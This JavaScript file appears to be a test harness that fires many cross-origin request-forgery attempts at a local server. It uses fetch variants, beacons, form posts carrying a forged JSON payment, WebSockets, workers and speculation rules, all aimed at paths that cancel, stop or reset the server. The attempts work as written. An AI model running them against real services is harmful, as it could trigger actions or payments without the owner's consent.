// Everything a page of another origin can try against a server on this machine. Each attempt gets
// the server's address and a mark for the query, and ends when the browser has done with it.

const ACTING = ["/cancel", "/stop", "/reset", "/tlc"];
const PAYMENT = '{"amount":1,"orderId":"STOLEN"}';
const LIMIT_MS = 700;

const nothing = () => undefined;
const after = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const ended = (start) => Promise.race([new Promise(start), after(LIMIT_MS)]);

function load(name, attributes, into = document.body) {
  const element = Object.assign(document.createElement(name), attributes);
  return ended((resolve) => {
    element.onload = element.onerror = resolve;
    into.append(element);
  });
}

/** Asks for everything that acts, and posts a payment. */
function fetchAll({ url, mark }, init, body = PAYMENT) {
  const gets = ACTING.map((path) => fetch(url + path + mark, init).catch(nothing));
  const post = { ...init, method: "POST", body };
  const paths = ["/payment", "/", ...ACTING];
  const posts = paths.map((path) => fetch(url + path + mark, post).catch(nothing));
  return Promise.race([Promise.all([...gets, ...posts]), after(LIMIT_MS)]);
}

function submit({ url, mark }, method, enctype, path, fields) {
  const frame = Object.assign(document.createElement("iframe"), { name: `f${Math.random()}` });
  const form = document.createElement("form");
  Object.assign(form, { method, enctype, action: url + path + mark, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement("input"), { name, value }));
  }
  document.body.append(frame, form);
  return ended((resolve) => {
    frame.onload = resolve;
    form.submit();
  });
}

const each =
  (one, paths = ACTING) =>
  (target) =>
    Promise.all(paths.map((path) => one(target, path)));
const element = (name, member, more) =>
  each(({ url, mark }, path) => load(name, { ...more, [member]: url + path + mark }));
/** Whole documents are dear: one of them for each attempt. */
const nested = (name, member) =>
  each(({ url, mark }, path) => load(name, { [member]: url + path + mark }), ["/stop"]);

/** Runs source text that knows `target` and `fetchAll`, in a place other than this page. */
const source = (target) =>
  `const ACTING=${JSON.stringify(ACTING)},PAYMENT='${PAYMENT}',LIMIT_MS=${LIMIT_MS};` +
  `const nothing=${nothing},after=${after};${fetchAll};` +
  `fetchAll(${JSON.stringify(target)},{mode:"no-cors",credentials:"include"})`;

const attempts = {
  fetch: (target) => fetchAll(target, { credentials: "include" }),
  "fetch no-cors": (target) => fetchAll(target, { mode: "no-cors", credentials: "include" }),
  "fetch keepalive": (target) =>
    fetchAll(target, { mode: "no-cors", credentials: "include", keepalive: true }),
  "fetch json": (target) =>
    fetchAll(target, { credentials: "include", headers: { "content-type": "application/json" } }),
  "fetch with a guess": (target) => fetchAll(target, { headers: { authorization: "Basic YTpi" } }),
  "fetch of a blob": (target) =>
    fetchAll(
      target,
      { mode: "no-cors", credentials: "include" },
      new Blob([PAYMENT], { type: "application/json" }),
    ),
  "fetch redirected": ({ url, mark }) =>
    Promise.all(
      ["/payment", ...ACTING].flatMap((path) =>
        ["GET", "POST"].map((method) =>
          fetch(`/redirect?to=${encodeURIComponent(url + path + mark)}`, {
            method,
            mode: "no-cors",
            credentials: "include",
            ...(method === "POST" ? { body: PAYMENT } : {}),
          }).catch(nothing),
        ),
      ),
    ),
  "request object": each(({ url, mark }, path) =>
    ended((resolve) => {
      const request = new XMLHttpRequest();
      request.open("POST", url + path + mark);
      request.withCredentials = true;
      request.onloadend = resolve;
      request.send("{}");
    }),
  ),
  beacon: async ({ url, mark }) => {
    for (const path of ["/payment", ...ACTING]) {
      navigator.sendBeacon(url + path + mark, PAYMENT);
      navigator.sendBeacon(url + path + mark, new Blob([PAYMENT], { type: "application/json" }));
    }
    await after(150);
  },
  ping: async ({ url, mark }) => {
    for (const path of ACTING) {
      const link = Object.assign(document.createElement("a"), {
        href: "#",
        ping: url + path + mark,
      });
      document.body.append(link);
      link.click();
    }
    await after(150);
  },
  image: element("img", "src"),
  script: element("script", "src"),
  module: element("script", "src", { type: "module", crossOrigin: "use-credentials" }),
  "style sheet": element("link", "href", { rel: "stylesheet" }),
  icon: element("link", "href", { rel: "icon" }),
  preload: element("link", "href", { rel: "preload", as: "script" }),
  prefetch: element("link", "href", { rel: "prefetch" }),
  video: element("video", "src"),
  frame: nested("iframe", "src"),
  object: nested("object", "data"),
  embed: nested("embed", "src"),
  background: async ({ url, mark }) => {
    const images = ACTING.map((path) => `url("${url + path + mark}")`).join(",");
    document.body.style.backgroundImage = images;
    await after(150);
  },
  "form text/plain": (target) =>
    submit(target, "post", "text/plain", "/payment", {
      '{"amount":1,"orderId":"STOLEN","customData":{"a":"': '"}}',
    }),
  "form urlencoded": (target) =>
    submit(target, "post", "application/x-www-form-urlencoded", "/payment", { amount: "1" }),
  "form multipart": (target) => submit(target, "post", "multipart/form-data", "/", { amount: "1" }),
  "form that acts": (target) => submit(target, "post", "text/plain", "/stop", {}),
  "form get": (target) => submit(target, "get", "", "/stop", {}),
  "event source": ({ url, mark }) =>
    ended((resolve) => {
      const events = new EventSource(`${url}/events${mark}`, { withCredentials: true });
      events.onopen = events.onerror = () => resolve(events.close());
    }),
  "web socket": each(({ url, mark }, path) =>
    ended((resolve) => {
      const socket = new WebSocket(url.replace("http", "ws") + path + mark);
      socket.onopen = socket.onerror = () => resolve(socket.close());
    }),
  ),
  window: async ({ url, mark }) => {
    const opened = open(`${url}/stop${mark}`);
    open(`${url}/reset${mark}`, "_blank", "noopener,noreferrer");
    await after(300);
    opened?.close();
  },
  worker: async (target) => {
    new Worker(URL.createObjectURL(new Blob([source(target)])));
    await after(300);
  },
  "sandboxed frame": async (target) => {
    const srcdoc = `<body><script>${source(target)}</script>`;
    await load("iframe", { sandbox: "allow-scripts allow-forms", srcdoc });
    await after(300);
  },
};

const actingAt = (servers) => servers.flatMap((url) => ACTING.map((path) => url + path));

/** Has the browser fetch ahead what acts, in case somebody should go there. */
window.speculate = (...servers) => {
  const urls = actingAt(servers);
  const rule = [{ source: "list", urls, eagerness: "immediate" }];
  const textContent = JSON.stringify({ prefetch: rule, prerender: rule });
  document.head.append(
    Object.assign(document.createElement("script"), { type: "speculationrules", textContent }),
  );
};

/** Has the browser fetch by itself, whether the page stays open or not. */
window.fetchInBackground = async (...servers) => {
  await navigator.serviceWorker.register("/worker.js");
  const { backgroundFetch } = await navigator.serviceWorker.ready;
  await backgroundFetch.fetch(crypto.randomUUID(), actingAt(servers));
};

/** Everything, or what is named, at once. */
window.attack = async (url, names = Object.keys(attempts)) => {
  const marked = (name) => ({ url, mark: `?by=${encodeURIComponent(name)}` });
  await Promise.all(names.map((name) => attempts[name](marked(name))));
};
